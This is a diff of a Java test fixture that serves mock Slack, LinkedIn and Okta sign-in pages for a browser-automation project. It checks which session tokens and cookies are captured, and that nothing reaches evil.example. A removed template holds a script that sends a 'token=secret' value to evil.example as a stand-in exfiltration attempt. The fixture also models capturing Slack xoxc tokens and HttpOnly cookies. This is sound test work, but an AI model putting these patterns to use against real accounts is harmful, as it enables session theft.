@@ -1,5 +1,8 @@
 package dev.latchkey.browser.chromium;
 
+import static dev.latchkey.browser.chromium.SitePages.page;
+import static dev.latchkey.browser.chromium.SitePages.redirect;
+
 import com.sun.net.httpserver.HttpExchange;
 import com.sun.net.httpserver.HttpsConfigurator;
 import com.sun.net.httpserver.HttpsServer;
@@ -38,20 +41,21 @@ import javax.net.ssl.TrustManagerFactory;
  *   <li>{@code slack.com/signin}: a sign-in form (password {@value #PASSWORD}) and links, a redirect, a
  *       script and a pop-up that all try to leave for {@code evil.example}; a good sign-in goes to
  *       {@code app.slack.com/client/T222BBB}, whose page writes {@code localConfig_v2} with two
- *       teams after a moment and gets its HttpOnly {@code d} cookie on {@code .slack.com} later still
- *       (plus decoys: {@code d} on {@code app.slack.com} only, and {@code d-s});</li>
+ *       teams after a moment (and forges {@code JSON.parse} in its own world) and gets its HttpOnly
+ *       {@code d} cookie on {@code .slack.com} later still (decoys: {@code d} on {@code app.slack.com}, {@code d-s});</li>
  *   <li>{@code www.linkedin.com/login}: a sign-in form that sets localStorage and the HttpOnly
  *       {@code li_at} cookie and redirects to the {@code /feed/} dashboard; a wrong password shows an error;</li>
  *   <li>{@code slack.com/api/auth.test}: Slack's session check, {@code "ok": true} with the team and user
  *       for a Bearer {@code xoxc-} token of a team and the account's {@code d} cookie, until
  *       {@link #endSession}; {@code "ok": false, "error": "invalid_auth"} otherwise (HTTP 200, as Slack does);</li>
+ *   <li>{@code slack.com/sso}: a server redirect to the SSO tenant {@code acme.okta.com}, whose page links
+ *       to another tenant, {@code other.okta.com} (the sign-in page links to {@code acme.okta.com} directly too);</li>
  *   <li>{@code evil.example}: must never be asked for anything ({@link #requestsTo}).</li>
  * </ul>
  */
 public final class ServiceSites implements AutoCloseable {
 
     public static final String PASSWORD = "correct horse";
-    static final String SLACK_HOSTS = "slack.com app.slack.com";
     /** How long the {@code d} cookie lasts (Chromium caps any cookie at 400 days). */
     static final Duration D_LIFETIME = Duration.ofDays(30);
 
@@ -114,7 +118,7 @@ public final class ServiceSites implements AutoCloseable {
     /** Chromium's switches that send the services' hosts here and trust this site's certificate. */
     public QaSwitches switches() {
         int port = server.getAddress().getPort();
-        String rules = String.join(",", List.of("slack.com", "*.slack.com", "www.linkedin.com", "evil.example")
+        String rules = String.join(",", List.of("slack.com", "*.slack.com", "www.linkedin.com", "evil.example", "*.okta.com")
                 .stream().map(host -> "MAP " + host + " 127.0.0.1:" + port).toList());
         return new QaSwitches(rules, spki);
     }
@@ -160,7 +164,7 @@ public final class ServiceSites implements AutoCloseable {
             switch (host + " " + method + " " + path.replaceFirst("^/client/T[A-Z0-9]+$", "/client/T")) {
                 case "slack.com GET /signin" -> {
                     if (cookie(exchange, "account").isEmpty()) {
-                        page(exchange, 200, slackSignIn(""));
+                        page(exchange, 200, SitePages.slackSignIn(""));
                     } else {
                         redirect(exchange, "https://app.slack.com/client/T222BBB"); // signed in already
                     }
@@ -168,19 +172,21 @@ public final class ServiceSites implements AutoCloseable {
                 case "slack.com POST /signin" -> slackSignedIn(exchange, form(exchange));
                 case "slack.com GET /help" -> page(exchange, 200, "<h1 id=help>Slack help</h1>");
                 case "slack.com GET /leave" -> redirect(exchange, "https://evil.example/redirect");
+                case "slack.com GET /sso" -> redirect(exchange, "https://acme.okta.com/app/slack/sso");
+                case "acme.okta.com GET /app/slack/sso" -> page(exchange, 200, SitePages.OKTA_TENANT);
                 case "app.slack.com GET /client/T" -> {
                     if (!late) {
                         dCookies(exchange);
                     }
                     dashboardServedAt = Instant.now();
-                    page(exchange, 200, late ? SLACK_CLIENT : SLACK_CLIENT_AT_ONCE);
+                    page(exchange, 200, late ? SitePages.SLACK_CLIENT : SitePages.SLACK_CLIENT_AT_ONCE);
                 }
                 case "app.slack.com GET /late-cookie" -> {
                     dCookies(exchange);
                     exchange.sendResponseHeaders(204, -1);
                 }
                 case "slack.com POST /api/auth.test" -> authTest(exchange);
-                case "www.linkedin.com GET /login" -> page(exchange, 200, linkedInSignIn(""));
+                case "www.linkedin.com GET /login" -> page(exchange, 200, SitePages.linkedInSignIn(""));
                 case "www.linkedin.com POST /login" -> linkedInSignedIn(exchange, form(exchange));
                 case "www.linkedin.com GET /feed/" -> page(exchange, 200, "<h1 id=feed>Your feed</h1>");
                 default -> page(exchange, 404, "<h1>nothing here: " + host + path + "</h1>");
@@ -219,25 +225,9 @@ public final class ServiceSites implements AutoCloseable {
         exchange.getResponseBody().write(body);
     }
 
-    private static String slackSignIn(String error) {
-        return """
-                <h1>Sign in to Slack</h1>
-                <p id=error>%s</p>
-                <form method=post action=/signin>
-                  <input id=email name=email> <input id=password name=password type=password>
-                  <button id=submit>Sign in</button>
-                </form>
-                <a id=evil-link href="https://evil.example/link">a link away</a>
-                <a id=redirect-link href="/leave">a redirect away</a>
-                <button id=script-button onclick="location.href='https://evil.example/script?token=secret'">a script away</button>
-                <button id=popup-button onclick="window.open('https://evil.example/popup')">a pop-up</button>
-                <a id=blank-link href="https://slack.com/help" target=_blank>help in a new window</a>
-                """.formatted(error);
-    }
-
     private static void slackSignedIn(HttpExchange exchange, Map<String, String> form) throws IOException {
         if (!PASSWORD.equals(form.get("password"))) {
-            page(exchange, 200, slackSignIn("Wrong password"));
+            page(exchange, 200, SitePages.slackSignIn("Wrong password"));
             return;
         }
         // The account's name travels in a plain cookie so that the late d cookie can be told apart per account.
@@ -245,25 +235,6 @@ public final class ServiceSites implements AutoCloseable {
                 + "; Domain=slack.com; Path=/; Secure; Max-Age=" + D_LIFETIME.toSeconds());
         redirect(exchange, "https://app.slack.com/client/T222BBB");
     }
-
-    private static final String SLACK_CLIENT = """
-            <h1 id=client>Slack</h1>
-            <script>
-              setTimeout(() => localStorage.setItem('localConfig_v2', JSON.stringify({teams: {
-                T111AAA: {name: 'first', token: 'xoxc-111-first-team'},
-                T222BBB: {name: 'second', token: 'xoxc-222-second-team'}}})), 300);
-              setTimeout(() => fetch('/late-cookie', {credentials: 'include'}), 700);
-            </script>
-            """;
-
-    private static final String SLACK_CLIENT_AT_ONCE = """
-            <h1 id=client>Slack</h1>
-            <script>
-              localStorage.setItem('localConfig_v2', JSON.stringify({teams: {
-                T111AAA: {name: 'first', token: 'xoxc-111-first-team'},
-                T222BBB: {name: 'second', token: 'xoxc-222-second-team'}}}));
-            </script>
-            """;
 
     private static String cookieSecret(HttpExchange exchange) {
         return cookie(exchange, "account") + "%2Fsecret%3D";
@@ -283,20 +254,9 @@ public final class ServiceSites implements AutoCloseable {
         return "";
     }
 
-    private static String linkedInSignIn(String error) {
-        return """
-                <h1>Sign in to LinkedIn</h1>
-                <p id=error>%s</p>
-                <form method=post action=/login>
-                  <input id=username name=username> <input id=password name=password type=password>
-                  <button id=submit>Sign in</button>
-                </form>
-                """.formatted(error);
-    }
-
     private static void linkedInSignedIn(HttpExchange exchange, Map<String, String> form) throws IOException {
         if (!PASSWORD.equals(form.get("password"))) {
-            page(exchange, 200, linkedInSignIn("Wrong email or password"));
+            page(exchange, 200, SitePages.linkedInSignIn("Wrong email or password"));
             return;
         }
         exchange.getResponseHeaders().add("Set-Cookie",
@@ -321,19 +281,6 @@ public final class ServiceSites implements AutoCloseable {
             }
         }
         return form;
-    }
-
-    private static void page(HttpExchange exchange, int status, String body) throws IOException {
-        byte[] bytes = ("<!doctype html><html><head><meta charset=utf-8><title>test site</title></head><body>"
-                + body + "</body></html>").getBytes(StandardCharsets.UTF_8);
-        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
-        exchange.sendResponseHeaders(status, bytes.length);
-        exchange.getResponseBody().write(bytes);
-    }
-
-    private static void redirect(HttpExchange exchange, String location) throws IOException {
-        exchange.getResponseHeaders().set("Location", location);
-        exchange.sendResponseHeaders(302, -1);
     }
 
     @Override
